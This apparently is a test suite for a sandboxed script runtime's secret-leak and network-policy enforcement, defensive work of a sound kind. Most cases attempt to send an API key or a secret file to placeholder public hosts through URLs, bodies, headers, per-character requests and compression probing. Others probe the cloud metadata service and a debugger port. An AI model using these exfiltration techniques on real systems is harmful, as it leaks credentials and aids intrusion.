// Requests at public and local-only hosts.

//# dns-label
// title: as a host name or a part of one
// rows: 54
// expect: E_SINK
const key = env.read("API_KEY");
for (const url of [`http://${key}.example.com/`, `http://127.0.0.1:${key}/`, `http://${key}@127.0.0.1/`, `${key}://127.0.0.1/`, `${key}`]) {
  try { print(net.httpGet(url).status); } catch (error) { print(error.code); }
}
net.httpGet(`http://${key}.example.com/`);

//# sealed-response
// title: status, headers, body and url of a local-only answer
// reaches: local GET /value
// rows: 55
const answer = net.httpGet("$LOCAL/value");
print(answer.status, answer.ok, answer.url, answer.headers, answer.body);
print(answer.headers.get, answer.headers["x-count"], answer.text(), answer.json(), answer.json().list.length, answer.json().value);

//# fetched-response
// title: the same with fetch, awaited at every step
// rows: 55
const answer = await fetch("$LOCAL/value");
print(answer.status, await answer.text(), (await answer.json()).bit);
for (const attempt of [() => answer.clone(), () => answer.arrayBuffer(), () => answer.headers.get("x-count"), () => answer.body.getReader()]) {
  try { print(await attempt()); } catch (error) { print(error.code); }
}

//# branch-on-status
// title: branches on ok and status
// rows: 55
// expect: E_SEALED_BRANCH
const answer = net.httpGet("$LOCAL/value");
if (answer.ok) print("ok"); else print("not ok");

//# public-a-or-b
// title: asks for this or that by a local-only answer
// rows: 56
// expect: E_SINK
const answer = net.httpGet("$LOCAL/value").json();
for (const url of [`$PUBLIC/${answer.bit}`, `$PUBLIC/?state=${answer.state}`, `$PUBLIC/#${answer.state}`]) {
  try { net.httpGet(url); print("asked"); } catch (error) { print(error.code); }
}
net.httpGet(`$PUBLIC/${answer.state}`);

//# public-body
// title: in the body of a public request, in every form
// expect: E_SINK
const key = env.read("API_KEY");
for (const body of [key, `${key}`, { key }, { [`${key}`]: 1 }, [[[key]]], JSON.stringify({ key }), new URLSearchParams({ key }).toString(), btoa(`a:${key}`)]) {
  try { net.httpPost("$PUBLIC/echo", body); print("sent"); } catch (error) { print(error.code); }
}
net.httpPost("$PUBLIC/echo", key);

//# public-headers
// title: in names and values of headers of a public request
// expect: E_SINK
const key = env.read("API_KEY");
for (const headers of [{ "x-key": key }, { [`x-${key}`]: "1" }, { "x-key": `a ${key}` }, { cookie: `s=${key}` }, { "user-agent": `${key}` }]) {
  try { net.httpGet("$PUBLIC/h", { headers }); print("sent"); } catch (error) { print(error.code); }
}
net.httpGet("$PUBLIC/h", { headers: { "x-key": key } });

//# method-and-options
// title: as method, time-out, response type, signal
const key = env.read("API_KEY");
for (const attempt of [() => net.request({ method: `${key}`, url: "$PUBLIC/m" }), () => net.httpGet("$PUBLIC/m", { timeoutMs: key.length }), () => net.httpGet("$PUBLIC/m", { responseType: `${key}` }), () => fetch("$PUBLIC/m", { method: key }), () => fetch(key), () => net.httpGet("$PUBLIC/m", key)]) {
  try { print((await attempt()).status); } catch (error) { print(error.code); }
}

//# half-of-a-token
// title: half a token to a public host
// rows: 74
// expect: E_TOKEN_BROKEN
const text = String(env.read("API_KEY"));
net.httpGet(`$PUBLIC/?half=${text.slice(0, 20)}`);

//# letters-of-a-token
// title: a token's letters one by one to a public host
// rows: 74
const text = String(env.read("API_KEY"));
for (let index = 0; index < 39; index += 13) net.httpGet(`$PUBLIC/${index}/${text.charCodeAt(index)}`);

//# local-redirect
// title: a local-only answer that redirects to a public host for some secrets
// policy: releases
// reaches: local GET /redirect
// rows: 62
const answer = net.httpGet("$LOCAL/redirect");
print(answer.status, answer.headers);
print(String((await fetch("$LOCAL/redirect", { redirect: "follow" })).url).length);

//# local-echo
// title: what a local-only host echoes, sent on
// reaches: local POST /echo, $SECRET
// expect: E_SINK
const key = env.read("API_KEY");
const echoed = net.httpPost("$LOCAL/echo", { key, list: [key] });
print(echoed.json().key, echoed.text());
net.httpPost("$PUBLIC/x", echoed.json().key);

//# local-failure
// title: connections that are reset for some secrets
const results = [];
for (const path of ["reset", "value", "reset"]) {
  try { results.push(net.httpGet(`$LOCAL/${path}`).status); } catch (error) { results.push(error.code); }
}
print(results);

//# framing-headers
// title: framing and hop-by-hop headers with it or around it
// rows: 63
const key = env.read("API_KEY");
for (const headers of [{ "content-length": "1" }, { "content-length": `${key}` }, { "transfer-encoding": "chunked" }, { host: `${key}` }, { connection: "x-key" }, { expect: "100-continue" }, { "accept-encoding": "gzip" }]) {
  try { print(net.httpPost("$LOCAL/echo", `${key}`, { headers }).status); } catch (error) { print(error.code); }
}

//# size-probing
// title: text next to it, whose compressed size would tell
// rows: 64
const key = env.read("API_KEY");
for (const guess of ["hunter2", "sk_live_", "1234"]) print(net.httpPost("$LOCAL/echo", `${guess}${key}`, { headers: { "content-encoding": "gzip" } }).headers);

//# debugger-and-metadata
// title: the debugger's port, the metadata service, our own servers
// rows: 65
// expect: E_POLICY_DENIED
for (const url of ["http://127.0.0.1:9229/json", "http://localhost:9229/json", "http://169.254.169.254/latest/", "http://[::1]:9229/", "http://0.0.0.0:9229/"]) {
  try { print(net.httpGet(url).status); } catch (error) { print(error.code); }
}

//# proxy-variables
// title: proxies by environment, header and option
// rows: 66
const key = env.read("API_KEY");
try { process.env.HTTP_PROXY = "$PUBLIC"; } catch (error) { print(error.code ?? error.name); }
try { print(net.httpPost("$LOCAL/echo", key, { headers: { "proxy-authorization": "x" } })); } catch (error) { print(error.code); }
print(net.httpPost("$LOCAL/echo", key));

//# denied-and-local
// title: denials that come before or after a local-only answer
// expect: E_POLICY_DENIED
const answer = net.httpGet("$LOCAL/value");
for (const url of ["http://127.0.0.1:1/", "https://example.invalid/"]) {
  try { net.httpPost(url, answer.body); } catch (error) { print(error.code); }
  try { net.httpGet(url); } catch (error) { print(error.code); }
}

//# label-of-the-other
// title: files to a host whose label does not accept them
// policy: labels
// expect: E_SINK
const text = fs.read("priv/secret.txt");
net.httpPost("$LOCAL/value", text);

//# cookies
// title: a cookie that a local-only answer sets
net.httpGet("$LOCAL/value");
print(net.httpGet("$LOCAL/value").headers);
net.httpGet("$PUBLIC/cookies");

//# public-order
// title: which of two public requests comes first
const ask = (name) => fetch(`$PUBLIC/${name}`);
await Promise.all([fetch("$LOCAL/value").then(() => ask("after-local")), fetch("$LOCAL/long/1").then(() => ask("after-long")), ask("public")]);
